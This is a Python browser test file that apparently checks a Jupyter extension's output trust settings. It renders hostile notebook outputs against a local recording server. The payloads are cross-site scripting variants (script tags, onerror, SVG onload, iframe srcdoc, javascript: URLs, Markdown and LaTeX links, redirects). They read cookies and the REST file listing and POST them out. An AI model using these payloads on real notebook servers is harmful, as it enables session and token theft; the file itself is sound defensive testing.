"""An output that attacks the page it is shown in: with ``full`` it has all it wants, with ``isolated`` none.

What it tries is what a script in a page of Jupyter can do: read the page's cookies, use the REST API with
them, put its own words into the page, lead it elsewhere, load things from the person's network.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest

from .conftest import ISOLATED

if TYPE_CHECKING:
    from .lab import LabPage

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(400)]

# `PORT` becomes that of the thief, a server that notes whatever reaches it.
ATTACK = r"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
URL = "http://127.0.0.1:PORT"
def steal(how):
    return ("(async () => {const w = window; w.top.stolen = (w.top.stolen || '') + 'HOW ';"
            "const files = await (await fetch(w.top.location.origin + '/api/contents')).text();"
            "await fetch('URL/HOW', {method: 'POST', mode: 'no-cors', body: JSON.stringify("
            "{cookie: document.cookie, files: files, title: w.top.document.title})})})()"
            ).replace("HOW", how).replace("URL", URL)
page = f'''<h1>attack page</h1>
<script>{steal("script")}</script>
<img src="nothing" onerror="{steal("onerror")}">
<svg><script>{steal("inline-svg")}</script></svg>
<iframe srcdoc="&lt;script&gt;parent.{steal("frame")}&lt;/script&gt;"></iframe>
<iframe src="javascript:{steal("address")}"></iframe>
<img src="{URL}/picture"><link rel="stylesheet" href="{URL}/style">
<style>@import url("{URL}/import"); body {{background: url("{URL}/background")}}</style>
<object data="{URL}/object"></object><embed src="{URL}/embed"><iframe src="{URL}/inner"></iframe>
<script>window.onmessage = e => 0; parent.postMessage({{stolen: 1}}, "*");</script>
<form id="form" action="{URL}/form" target="_top" method="post"><button id="send">send</button></form>
<a id="out" href="{URL}/link" target="_top">out</a>
LEAVE'''.replace("LEAVE", leave.replace("URL", URL))
image = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{steal("svg")}">' \
        f'<image href="{URL}/svg-image" width="9" height="9"/><rect width="9" height="9"/></svg>'
"""
SHOW = """display(HTML(page))
display(Javascript(steal("javascript")))
display(SVG(data=image))
display(Markdown(f'<img src="nothing" onerror="{steal("markdown")}">'))
display({"text/latex": r"$\\\\href{javascript:top.stolen='latex'}{x}$", "text/plain": "latex"}, raw=True)
print("all shown")"""


# What would end the attack itself where it works.
LEAVE = (
    '<script>top.location = "URL/top"</script><base href="URL/base/" target="_top">'
    '<meta http-equiv="refresh" content="0;url=URL/refresh">'
)


class Thief(http.server.ThreadingHTTPServer):
    """Notes the requests that reach it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.visits: dict[str, bytes] = {}
        self.visited = threading.Condition()


class Visit(http.server.BaseHTTPRequestHandler):
    """One request."""

    server: Thief

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        with self.server.visited:
            self.server.visits[self.path] = body
            self.server.visited.notify_all()
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


@pytest.fixture
def thief() -> Iterator[Thief]:
    with Thief() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def prepare(page: LabPage, notebook: str, thief: Thief, leave: str = "") -> None:
    """Run the first cell, which only writes the attack down."""
    page.open_notebook(notebook)
    page.select_cell(0)
    page.type(f"port, leave = {thief.server_port}, {leave!r}")
    page.run_cell(0)
    page.until_done(0)


CELLS = ("", f"exec({ATTACK!r}.replace('PORT', str(port)))", SHOW)


@pytest.mark.cells(*CELLS)
def test_full_trust_is_full(page: LabPage, notebook: str, thief: Thief) -> None:
    """What the documentation says of ``full``; and that the attack works where nothing stops it."""
    prepare(page, notebook, thief)
    page.driver.execute_script("window.stolen = ''")
    for index in (1, 2):
        page.run_cell(index)
    wanted = {"/script", "/onerror", "/javascript", "/picture"}
    with thief.visited:
        assert thief.visited.wait_for(lambda: wanted <= set(thief.visits), 60), thief.visits.keys()
    assert "_xsrf" in json.loads(thief.visits["/script"])["cookie"]
    assert notebook in json.loads(thief.visits["/script"])["files"]
    with contextlib.suppress(Exception):  # it may have been led elsewhere, and asks before it leaves
        page.driver.switch_to.alert.accept()
    page.driver.get("about:blank")
    with contextlib.suppress(Exception):
        page.driver.switch_to.alert.accept()


@pytest.mark.cells(*CELLS, kernel=ISOLATED)
def test_isolated_output_reaches_nothing(page: LabPage, notebook: str, thief: Thief) -> None:
    prepare(page, notebook, thief, LEAVE)
    driver = page.driver
    where, title = driver.current_url, driver.title
    driver.execute_script("window.stolen = ''; window.told = []; onmessage = e => told.push(e.origin)")
    for index in (1, 2):
        page.run_cell(index)
    page.until_output(2, "all shown")
    page.until_done(2)
    frame = page.find(f"{page.CELLS} iframe[sandbox]")
    drawing = page.find(f"{page.CELLS} img[alt='SVG']")
    page.until(lambda d: d.execute_script("return arguments[0].naturalWidth", drawing) == 9, "the drawing")
    driver.switch_to.frame(frame)
    page.until(lambda d: "attack page" in d.page_source, "the page in its frame")
    page.until(lambda d: d.execute_script("return document.readyState") == "complete", "its end")
    for name in ("send", "out"):  # the person falls for it
        driver.find_element("id", name).click()
    driver.switch_to.default_content()
    frames = driver.execute_script(
        "return [...document.querySelectorAll('iframe[sandbox]')].map(f => f.sandbox.value)"
    )
    assert set(frames) == {""}
    assert "output_trust is isolated: application/javascript" in page.output(2)
    assert "latex" in page.output(2)
    page.select_cell(1)  # the page is alive, and has had its turn
    assert driver.execute_script("return window.stolen") == ""
    assert not [origin for origin in driver.execute_script("return window.told") if origin == "null"]
    assert (driver.current_url, driver.title.lstrip("*● ")) == (where, title.lstrip("*● "))
    assert thief.visits == {}
